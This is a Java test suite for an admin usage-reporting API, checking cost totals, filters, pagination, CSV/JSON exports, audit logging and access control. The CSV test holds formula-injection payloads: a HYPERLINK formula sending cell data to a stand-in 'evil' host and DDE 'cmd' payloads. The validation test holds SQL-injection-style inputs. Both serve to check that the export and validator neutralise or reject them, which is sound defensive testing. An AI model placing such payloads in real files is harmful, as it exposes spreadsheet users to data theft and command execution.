package com.engarde.signupsync.functions.adminplatformusage;

import com.engarde.signupsync.input.JsonBodies;
import com.engarde.signupsync.platform.UsageIngest;
import com.engarde.signupsync.platform.UsageRange;
import com.engarde.signupsync.platform.UsageRollups;
import com.engarde.signupsync.testing.AdminJwts;
import com.engarde.signupsync.testing.AdminRequests;
import com.engarde.signupsync.testing.LambdaFunction;
import com.engarde.signupsync.testing.LambdaHarness;
import com.engarde.signupsync.testing.LambdaHarness.Response;
import com.engarde.signupsync.testing.Rows;
import com.engarde.signupsync.testing.TestClock;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static com.engarde.signupsync.testing.UsageRecords.PLATFORM_TENANT;
import static com.engarde.signupsync.testing.UsageRecords.batch;
import static com.engarde.signupsync.testing.UsageRecords.record;
import static com.engarde.signupsync.testing.UsageRecords.uuid;
import static org.assertj.core.api.Assertions.assertThat;

/** The usage views and their export: totals equal the raw records to the cent, in every view mode. */
class PlatformUsageTest {

    private static final Instant NOW = Instant.parse("2026-06-01T12:00:00Z");

    @RegisterExtension
    static final LambdaFunction lambda = new LambdaFunction(AdminRequests.properties());

    private static final String ACME = uuid(1, 1);
    private static final String GLOBEX = uuid(1, 2);
    private static final String BRAND = uuid(3, 1);

    @BeforeEach
    void now() {
        TestClock.INSTANCE.set(NOW);
    }

    private static void ingest(List<ObjectNode> records) {
        UsageIngest.Outcome outcome = lambda.harness().context().getBean(UsageIngest.class)
                .record(lambda.harness().context().getBean(JsonBodies.class)
                        .exactObject(JsonBodies.utf8(batch(records)), UsageIngest.MAX_BODY_BYTES));
        assertThat(outcome.errors()).as(outcome.toString()).isZero();
    }

    private static void rollUp() {
        UsageRollups.Run run = lambda.harness().context().getBean(UsageRollups.class)
                .roll(new UsageRange(LocalDate.parse("2026-04-01"), LocalDate.parse("2026-06-30")));
        assertThat(run.differences()).isEmpty();
    }

    static Response get(String path, Map<String, String> params, String token) {
        return lambda.handle(AdminRequests.request("GET", path, null, params, token));
    }

    static Response admin(String path, Map<String, String> params) {
        return get(path, params, AdminJwts.superuser(TestClock.INSTANCE.instant()));
    }

    /** Platform and customer records on both sides of the UTC midnight that ends May. */
    private static void aroundTheMonthEnd() {
        ingest(List.of(
                record("p1", "2026-05-31T23:59:59.999999Z", PLATFORM_TENANT, uuid(2, 1), "0.333333", 100)
                        .put("brand_id", BRAND).put("brand_name", "En Garde Studio"),
                record("p2", "2026-06-01T00:00:00Z", PLATFORM_TENANT, uuid(2, 1), "0.666667", 200)
                        .put("brand_id", BRAND).put("model", "gpt-4o-mini"),
                // 20:00 at UTC-5 on May 31 is 01:00 UTC on June 1: it counts in June.
                record("a1", "2026-05-31T20:00:00-05:00", ACME, uuid(2, 2), "1.000001", 300)
                        .put("tenant_name", "Acme").put("plan_tier", "pro"),
                record("a2", "2026-05-31T10:00:00Z", ACME, uuid(2, 2), "2.000002", 400)
                        .put("bigquery_storage_gb", "10.5"),
                record("a3", "2026-05-31T11:00:00Z", ACME, uuid(2, 2), "0", 0)
                        .put("bigquery_storage_gb", "12.25").put("provider", "google").put("model", "bigquery"),
                record("g1", "2026-05-01T00:00:00Z", GLOBEX, null, "5.123456", 500)
                        .put("tenant_name", "Globex").put("plan_tier", "free"),
                record("g2", "2026-04-30T23:59:59Z", GLOBEX, null, "7.000000", 700)));
        rollUp();
    }

    private static BigDecimal raw(String where, Object... params) {
        return (BigDecimal) Rows.row("SELECT coalesce(sum(m.cost_usd), 0) AS c FROM usage_metrics m"
                + " JOIN platform_tenants t ON t.id = m.tenant_id WHERE " + where, params).get("c");
    }

    private static void assertTotals(JsonNode page, String where, Object... params) {
        BigDecimal total = raw(where, params);
        BigDecimal platform = raw(where + " AND m.tenant_id = '" + PLATFORM_TENANT + "'", params);
        assertThat(page.path("total_llm_cost_usd").decimalValue()).isEqualByComparingTo(total);
        assertThat(page.path("platform_usage_usd").decimalValue()).isEqualByComparingTo(platform);
        assertThat(page.path("customer_usage_usd").decimalValue()).isEqualByComparingTo(total.subtract(platform));
        BigDecimal rows = BigDecimal.ZERO;
        for (JsonNode row : page.path("rows")) {
            rows = rows.add(row.path("total_cost_usd").decimalValue());
        }
        assertThat(rows).as("the rows add up to the total").isEqualByComparingTo(total);
        assertThat(page.path("total_llm_tokens").asLong()).isEqualTo(Rows.number(
                "SELECT coalesce(sum(input_tokens + output_tokens), 0) FROM usage_metrics m JOIN platform_tenants t"
                        + " ON t.id = m.tenant_id WHERE " + where, params));
    }

    @Test
    void dailyTotalsAndTheSplitEqualTheRawRecordsOnEachSideOfAUtcMidnight() {
        aroundTheMonthEnd();

        JsonNode may31 = admin("/api/admin/platform/usage/users",
                Map.of("view_mode", "daily", "date_from", "2026-05-31", "date_to", "2026-05-31")).json();
        JsonNode june1 = admin("/api/admin/platform/usage/tenants",
                Map.of("view_mode", "daily", "date_from", "2026-06-01", "date_to", "2026-06-01")).json();

        assertTotals(may31, "m.occurred_at >= '2026-05-31T00:00:00Z' AND m.occurred_at < '2026-06-01T00:00:00Z'");
        assertTotals(june1, "m.occurred_at >= '2026-06-01T00:00:00Z' AND m.occurred_at < '2026-06-02T00:00:00Z'");
        assertThat(may31.path("total_llm_cost_usd").decimalValue()).isEqualByComparingTo("2.333335");
        assertThat(june1.path("platform_usage_usd").decimalValue()).isEqualByComparingTo("0.666667");
        assertThat(june1.path("customer_usage_usd").decimalValue()).isEqualByComparingTo("1.000001");
    }

    @Test
    void monthlyTotalsEqualTheRawRecordsOfWholeUtcMonths() {
        aroundTheMonthEnd();

        JsonNode may = admin("/api/admin/platform/usage/tenants",
                Map.of("view_mode", "monthly", "date_from", "2026-05-15", "date_to", "2026-05-20")).json();
        JsonNode april = admin("/api/admin/platform/usage/users",
                Map.of("view_mode", "monthly", "date_from", "2026-04-01", "date_to", "2026-04-30")).json();

        assertThat(may.path("date_from").asText()).isEqualTo("2026-05-01");
        assertTotals(may, "m.occurred_at >= '2026-05-01T00:00:00Z' AND m.occurred_at < '2026-06-01T00:00:00Z'");
        assertTotals(april, "m.occurred_at >= '2026-04-01T00:00:00Z' AND m.occurred_at < '2026-05-01T00:00:00Z'");
        assertThat(april.path("total_llm_cost_usd").decimalValue()).isEqualByComparingTo("7.000000");
    }

    @Test
    void realtimeReadsTheRawRecordsOfTheLast24Hours() {
        aroundTheMonthEnd();
        // Not rolled up yet: realtime sees it, the rollups do not.
        ingest(List.of(record("fresh", "2026-06-01T11:59:00Z", GLOBEX, null, "0.000001", 1)));

        JsonNode page = admin("/api/admin/platform/usage/users", Map.of("view_mode", "realtime")).json();

        assertTotals(page, "m.occurred_at > '2026-05-31T12:00:00Z'");
        assertThat(page.path("date_from").isMissingNode()).isTrue();
        assertThat(page.path("total_llm_cost_usd").decimalValue()).isEqualByComparingTo("2.000002");
    }

    @Test
    void storageIsTheLatestLevelOfEachSeriesNotASum() {
        aroundTheMonthEnd();

        JsonNode acme = admin("/api/admin/platform/usage/tenants",
                Map.of("view_mode", "daily", "date_from", "2026-05-31", "date_to", "2026-05-31", "tenant_id", ACME)).json();

        assertThat(acme.path("rows").size()).isEqualTo(1);
        assertThat(acme.path("rows").get(0).path("bigquery_storage_gb").decimalValue()).isEqualByComparingTo("12.25");
        assertThat(acme.path("total_bigquery_storage_gb").decimalValue()).isEqualByComparingTo("12.25");
    }

    @Test
    void rowsCarryTheirModelBreakdown() {
        aroundTheMonthEnd();

        JsonNode page = admin("/api/admin/platform/usage/users", Map.of("view_mode", "monthly",
                "date_from", "2026-06-01", "tenant_id", PLATFORM_TENANT)).json();

        JsonNode row = page.path("rows").get(0);
        assertThat(row.path("user_id").asText()).isEqualTo(uuid(2, 1));
        assertThat(row.path("email").asText()).isEqualTo("user-00000002@example.com");
        assertThat(row.path("tenant_name").asText()).isEqualTo("En Garde Admin");
        assertThat(row.path("plan_tier").asText()).isEqualTo("platform");
        assertThat(row.path("models").findValuesAsText("model")).containsExactly("gpt-4o-mini");
        assertThat(row.path("models").get(0).path("cost_usd").decimalValue()).isEqualByComparingTo("0.666667");
    }

    @Test
    void everyFilterNarrowsTheTotalsToItsRecords() {
        aroundTheMonthEnd();
        String may = "m.occurred_at >= '2026-05-01T00:00:00Z' AND m.occurred_at < '2026-06-01T00:00:00Z'";
        Map<String, String> base = Map.of("view_mode", "daily", "date_from", "2026-05-01", "date_to", "2026-05-31");
        Map<Map<String, String>, String> filters = new LinkedHashMap<>();
        filters.put(Map.of("plan_tier", "pro"), " AND t.plan_tier = 'pro'");
        filters.put(Map.of("plan_tier", "platform"), " AND t.plan_tier = 'platform'");
        filters.put(Map.of("tenant_id", GLOBEX), " AND m.tenant_id = '" + GLOBEX + "'");
        filters.put(Map.of("brand_id", BRAND), " AND m.brand_id = '" + BRAND + "'");
        filters.put(Map.of("date_from", "2026-05-02"), " AND m.occurred_at >= '2026-05-02T00:00:00Z'");
        filters.put(Map.of("date_to", "2026-05-30"), " AND m.occurred_at < '2026-05-31T00:00:00Z'");
        int checked = 0;
        for (var filter : filters.entrySet()) {
            Map<String, String> params = new HashMap<>(base);
            params.putAll(filter.getKey());
            for (String view : new String[]{"users", "tenants"}) {
                JsonNode page = admin("/api/admin/platform/usage/" + view, params).json();
                assertTotals(page, may + filter.getValue());
                checked++;
            }
            assertThat(raw(may + filter.getValue())).as(filter.getKey() + " selects something").isPositive();
        }
        assertThat(checked).isEqualTo(12);
    }

    @Test
    void paginationIsStableAndComplete() {
        List<ObjectNode> records = new ArrayList<>();
        for (int i = 0; i < 23; i++) {
            // Ties in cost, so the order must come from the key too.
            records.add(record("u" + i, "2026-05-10T10:00:00Z", ACME, uuid(2, 100 + i), i % 3 == 0 ? "1.00" : "2.00", i));
        }
        ingest(records);
        rollUp();
        Map<String, String> params = new HashMap<>(Map.of("view_mode", "daily", "date_from", "2026-05-01", "page_size", "5"));

        List<String> seen = new ArrayList<>();
        for (int page = 1; page <= 6; page++) {
            params.put("page", String.valueOf(page));
            JsonNode body = admin("/api/admin/platform/usage/users", params).json();
            assertThat(body.path("total_count").asInt()).isEqualTo(23);
            assertThat(body.path("total_llm_cost_usd").decimalValue()).isEqualByComparingTo("38.00");
            body.path("rows").forEach(r -> seen.add(r.path("user_id").asText()));
            assertThat(body.path("rows").size()).isEqualTo(page <= 4 ? 5 : page == 5 ? 3 : 0);
        }
        assertThat(seen).hasSize(23);
        assertThat(new HashSet<>(seen)).hasSize(23);
        params.put("page", "2");
        List<String> again = admin("/api/admin/platform/usage/users", params).json().path("rows").findValuesAsText("user_id");
        assertThat(again).isEqualTo(seen.subList(5, 10));
    }

    @Test
    void badParametersAre400sNamingTheField() {
        Map<Map<String, String>, String> bad = new LinkedHashMap<>();
        bad.put(Map.of("view_mode", "hourly"), "view_mode");
        bad.put(Map.of("page", "0"), "page");
        bad.put(Map.of("page", "x"), "page");
        bad.put(Map.of("page_size", "201"), "page_size");
        bad.put(Map.of("date_from", "2026-13-01"), "date_from");
        bad.put(Map.of("date_to", "yesterday"), "date_to");
        bad.put(Map.of("date_from", "2026-05-02", "date_to", "2026-05-01"), "date_from");
        bad.put(Map.of("date_from", "2020-01-01"), "date_to");
        bad.put(Map.of("tenant_id", "1 OR 1=1"), "tenant_id");
        bad.put(Map.of("brand_id", "abc"), "brand_id");
        bad.put(Map.of("plan_tier", "Pro'"), "plan_tier");
        for (var entry : bad.entrySet()) {
            for (String route : new String[]{"users", "tenants", "export"}) {
                Response r = admin("/api/admin/platform/usage/" + route, entry.getKey());
                assertThat(r.status()).as(route + " " + entry.getKey()).isEqualTo(400);
                assertThat(r.json().path("field").asText()).as(route + " " + entry.getKey()).isEqualTo(entry.getValue());
            }
        }
        assertThat(admin("/api/admin/platform/usage/export", Map.of("format", "xml")).json().path("field").asText())
                .isEqualTo("format");
        assertThat(admin("/api/admin/platform/usage/export", Map.of("rows", "brands")).json().path("field").asText())
                .isEqualTo("rows");
    }

    @Test
    void theCsvExportQuotesCommasQuotesNewlinesAndNonAsciiAndItsTotalsEqualTheApis() throws IOException {
        String awkward = "Ünïcode, \"Quoted\" & Co\nSecond line — 東京";
        List<ObjectNode> records = new ArrayList<>();
        records.add(record("x0", "2026-05-10T10:00:00Z", GLOBEX, uuid(2, 1), "0.000001", 1).put("tenant_name", "Globex"));
        for (int i = 1; i < 450; i++) {
            records.add(record("x" + i, "2026-05-10T10:00:00Z", ACME, uuid(2, 1000 + i), "0.1" + i, i));
        }
        ingest(records);
        // The API refuses a control character in a name (issue 9's input rules), but the export must quote
        // whatever is stored, so the awkward name is written underneath the API.
        com.engarde.signupsync.testing.TestDatabase.get().execute("UPDATE platform_tenants SET name = '"
                + awkward.replace("'", "''") + "' WHERE id = '" + GLOBEX + "'");
        rollUp();
        Map<String, String> params = Map.of("view_mode", "daily", "date_from", "2026-05-01", "date_to", "2026-05-31");
        JsonNode api = admin("/api/admin/platform/usage/users", params).json();

        Map<String, String> csvParams = new HashMap<>(params);
        csvParams.put("format", "csv");
        Response csv = admin("/api/admin/platform/usage/export", csvParams);

        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.headers().get("Content-Type")).startsWith("text/csv");
        List<CSVRecord> parsed;
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.body()))) {
            parsed = parser.getRecords();
        }
        assertThat(parsed).hasSize(450).hasSize(api.path("total_count").asInt());
        assertThat(parsed).extracting(r -> r.get("tenant_name")).contains(awkward);
        BigDecimal sum = parsed.stream().map(r -> new BigDecimal(r.get("total_cost_usd"))).reduce(BigDecimal.ZERO, BigDecimal::add);
        assertThat(sum).isEqualByComparingTo(api.path("total_llm_cost_usd").decimalValue());
        assertThat(csv.body()).contains("\"Ünïcode, \"\"Quoted\"\" & Co\nSecond line — 東京\"");
    }

    @Test
    void noCellOfACsvExportStartsAFormula() throws IOException {
        String hyperlink = "=HYPERLINK(\"https://evil/?d=\"&A2,\"Open invoice\")";
        List<String> names = List.of(hyperlink, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0");
        List<ObjectNode> records = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            records.add(record("f" + i, "2026-06-01T10:00:00Z", uuid(1, 10 + i), uuid(2, 10 + i), "1." + i, 1)
                    .put("tenant_name", names.get(i)).put("user_email", "=cmd" + i + "@example.com"));
        }
        records.add(record("f-tab", "2026-06-01T10:00:00Z", uuid(1, 20), null, "2", 1).put("tenant_name", "tab"));
        records.add(record("f-cr", "2026-06-01T10:00:00Z", uuid(1, 21), null, "3", 1).put("tenant_name", "cr"));
        ingest(records);
        // The API refuses control characters in names; the export neutralises whatever is stored all the same.
        com.engarde.signupsync.testing.TestDatabase.get().execute("UPDATE platform_tenants SET name = E'\\t=1+1'"
                + " WHERE id = '" + uuid(1, 20) + "'");
        com.engarde.signupsync.testing.TestDatabase.get().execute("UPDATE platform_tenants SET name = E'\\r=1+1'"
                + " WHERE id = '" + uuid(1, 21) + "'");
        rollUp();
        Map<String, String> expected = new HashMap<>();
        for (String name : names) {
            expected.put(name, "'" + name);
        }
        expected.put("\t=1+1", "'\t=1+1");
        expected.put("\r=1+1", "'\r=1+1");

        int checked = 0;
        for (String mode : List.of("daily", "realtime")) {
            for (String rows : List.of("users", "tenants")) {
                Map<String, String> params = new HashMap<>(Map.of("format", "csv", "view_mode", mode, "rows", rows));
                if (mode.equals("daily")) {
                    params.put("date_from", "2026-06-01");
                    params.put("date_to", "2026-06-01");
                }
                Response csv = admin("/api/admin/platform/usage/export", params);
                assertThat(csv.status()).as(csv.body()).isEqualTo(200);
                List<CSVRecord> parsed = parse(csv.body());
                assertThat(parsed).as(mode + " " + rows).hasSize(6);
                for (CSVRecord row : parsed) {
                    String original = expected.entrySet().stream().filter(e -> e.getValue().equals(row.get("tenant_name")))
                            .map(Map.Entry::getKey).findFirst().orElse(null);
                    assertThat(original).as(mode + " " + rows + ": " + row.get("tenant_name")).isNotNull();
                    if (rows.equals("users") && !row.get("email").isEmpty()) {
                        assertThat(row.get("email")).startsWith("'=cmd");
                    }
                    for (String cell : row.values()) {
                        assertThat(cell).as(mode + " " + rows).doesNotStartWith("=").doesNotStartWith("+")
                                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                    }
                    checked++;
                }
            }
        }
        assertThat(checked).isEqualTo(24);
    }

    @Test
    void everyExportLeavesAnAuditRowSayingWhoWhatRangeAndRows() {
        aroundTheMonthEnd();

        Response csv = admin("/api/admin/platform/usage/export", Map.of("format", "csv", "view_mode", "daily",
                "date_from", "2026-05-01", "date_to", "2026-06-30", "rows", "tenants"));
        Response json = admin("/api/admin/platform/usage/export", Map.of("format", "json", "view_mode", "realtime"));
        Response bad = admin("/api/admin/platform/usage/export", Map.of("format", "xls"));

        assertThat(csv.status()).isEqualTo(200);
        assertThat(json.status()).isEqualTo(200);
        assertThat(bad.status()).isEqualTo(400);
        assertThat(Rows.count("platform_admin_actions")).as("a refused export exports nothing").isEqualTo(2);
        Map<String, Object> first = Rows.row("SELECT actor_email, action, target_type, target_id, summary::text AS s"
                + " FROM platform_admin_actions ORDER BY id LIMIT 1");
        assertThat(first).containsEntry("actor_email", "root@example.com").containsEntry("action", "usage.export")
                .containsEntry("target_type", "usage_export").containsEntry("target_id", "tenants");
        assertThat(Rows.row("SELECT summary->>'format' AS format, summary->>'view_mode' AS mode,"
                + " summary->>'date_from' AS date_from, summary->>'date_to' AS date_to, summary->>'rows' AS rows,"
                + " summary->>'offset' AS offset, summary->>'complete' AS complete"
                + " FROM platform_admin_actions ORDER BY id LIMIT 1"))
                .containsEntry("format", "csv").containsEntry("mode", "daily").containsEntry("date_from", "2026-05-01")
                .containsEntry("date_to", "2026-06-30").containsEntry("rows", csv.headers().get("X-Export-Rows"))
                .containsEntry("offset", "0").containsEntry("complete", "true");
        assertThat(Rows.row("SELECT summary->>'format' AS format, summary->>'view_mode' AS mode,"
                + " summary->>'since' IS NOT NULL AS since, summary->>'rows' AS rows"
                + " FROM platform_admin_actions ORDER BY id DESC LIMIT 1"))
                .containsEntry("format", "json").containsEntry("mode", "realtime").containsEntry("since", true)
                .containsEntry("rows", String.valueOf(json.json().size()));
    }

    @Test
    void everyRowOfTheDailyAndMonthlyViewsEqualsItsRawRecordsToTheCent() {
        aroundTheMonthEnd();
        int checked = 0;
        for (String mode : new String[]{"daily", "monthly"}) {
            for (String view : new String[]{"users", "tenants"}) {
                JsonNode page = admin("/api/admin/platform/usage/" + view, Map.of("view_mode", mode,
                        "date_from", "2026-05-01", "date_to", "2026-05-31")).json();
                // May as 31 UTC days, or as one UTC month: the same records either way.
                String range = "m.occurred_at >= '2026-05-01T00:00:00Z' AND m.occurred_at < '2026-06-01T00:00:00Z'";
                assertThat(page.path("rows").size()).isEqualTo(page.path("total_count").asInt()).isPositive();
                for (JsonNode row : page.path("rows")) {
                    String key = " AND m.tenant_id = '" + row.path("tenant_id").asText() + "'" + (view.equals("tenants") ? ""
                            : row.path("user_id").isTextual() ? " AND m.user_id = '" + row.path("user_id").asText() + "'"
                            : " AND m.user_id IS NULL");
                    assertThat(row.path("total_cost_usd").decimalValue()).as(mode + " " + view + " " + row)
                            .isEqualByComparingTo(raw(range + key));
                    assertThat(row.path("llm_tokens").asLong()).as(mode + " " + view + " " + row).isEqualTo(Rows.number(
                            "SELECT coalesce(sum(input_tokens + output_tokens), 0) FROM usage_metrics m WHERE " + range + key));
                    checked++;
                }
                assertTotals(page, range);
            }
        }
        assertThat(checked).isGreaterThanOrEqualTo(8);
    }

    @Test
    void anExportLargerThanOneAnswerComesInPartsThatHoldEveryRowOnce() throws IOException {
        List<ObjectNode> records = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            records.add(record("e" + i, "2026-05-10T10:00:00Z", ACME, uuid(2, 500 + i), "1." + i, i)
                    .put("tenant_name", "Acmé, \"Ltd\""));
        }
        ingest(records);
        rollUp();
        Map<String, String> params = Map.of("view_mode", "daily", "date_from", "2026-05-01", "date_to", "2026-05-31");
        var reports = lambda.harness().context().getBean(com.engarde.signupsync.platform.UsageReports.class);
        var query = lambda.harness().context().getBean(com.engarde.signupsync.platform.UsageExport.class)
                .query(Map.of("view_mode", List.of("daily"), "date_from", List.of("2026-05-01"), "date_to", List.of("2026-05-31")));
        java.io.StringWriter whole = new java.io.StringWriter();
        long all = reports.exportCsv(query, com.engarde.signupsync.platform.UsageReports.Rows.USERS, whole);
        assertThat(all).isEqualTo(60);

        List<String> rows = new ArrayList<>();
        long offset = 0;
        int parts = 0;
        while (true) {
            java.io.StringWriter out = new java.io.StringWriter();
            var part = reports.exportCsv(query, com.engarde.signupsync.platform.UsageReports.Rows.USERS, offset, 2_000, out);
            parts++;
            assertThat(out.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8).length).isLessThanOrEqualTo(2_000);
            List<CSVRecord> parsed = parse(out.toString());
            assertThat(parsed).hasSize((int) part.rows());
            parsed.forEach(r -> rows.add(r.get("user_id")));
            offset += part.rows();
            if (part.complete()) {
                break;
            }
            assertThat(part.rows()).isPositive();
        }
        assertThat(parts).isGreaterThan(2);
        assertThat(rows).isEqualTo(parse(whole.toString()).stream().map(r -> r.get("user_id")).toList());

        // Through the route: the answer says whether it is the last part, and offset picks the next one.
        Map<String, String> csvParams = new HashMap<>(params);
        csvParams.put("format", "csv");
        Response first = admin("/api/admin/platform/usage/export", csvParams);
        assertThat(first.headers()).containsEntry("X-Export-Complete", "true").containsEntry("X-Export-Rows", "60")
                .doesNotContainKey("X-Export-Next-Offset");
        csvParams.put("offset", "55");
        Response tail = admin("/api/admin/platform/usage/export", csvParams);
        assertThat(parse(tail.body()).stream().map(r -> r.get("user_id")).toList()).isEqualTo(rows.subList(55, 60));
        csvParams.put("offset", "-1");
        assertThat(admin("/api/admin/platform/usage/export", csvParams).json().path("field").asText()).isEqualTo("offset");
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    @Test
    void theJsonExportHoldsEveryRowWithItsModels() {
        aroundTheMonthEnd();
        Map<String, String> params = Map.of("view_mode", "monthly", "date_from", "2026-04-01", "date_to", "2026-06-30",
                "format", "json", "rows", "tenants");
        JsonNode api = admin("/api/admin/platform/usage/tenants", params).json();

        JsonNode rows = admin("/api/admin/platform/usage/export", params).json();

        assertThat(rows.size()).isEqualTo(3).isEqualTo(api.path("total_count").asInt());
        BigDecimal sum = BigDecimal.ZERO;
        for (JsonNode row : rows) {
            sum = sum.add(row.path("total_cost_usd").decimalValue());
            assertThat(row.path("models").size()).isPositive();
        }
        assertThat(sum).isEqualByComparingTo(api.path("total_llm_cost_usd").decimalValue());
    }

    @Test
    void everyRouteIs401WithoutAnAdminTokenAnd403ForANonAdmin() {
        List<String> routes = List.of("users", "tenants", "export");
        for (String route : routes) {
            String path = "/api/admin/platform/usage/" + route;
            assertThat(get(path, Map.of(), null).status()).as(path).isEqualTo(401);
            assertThat(get(path, Map.of(), LambdaHarness.TOKEN).status()).as(path + " with the service token").isEqualTo(401);
            assertThat(get(path, Map.of(), AdminJwts.user("someone", "someone@example.com", NOW)).status())
                    .as(path + " for a non-admin").isEqualTo(403);
            assertThat(admin(path, Map.of()).status()).as(path + " for a superuser").isEqualTo(200);
        }
        assertThat(routes).hasSize(3);
    }
}
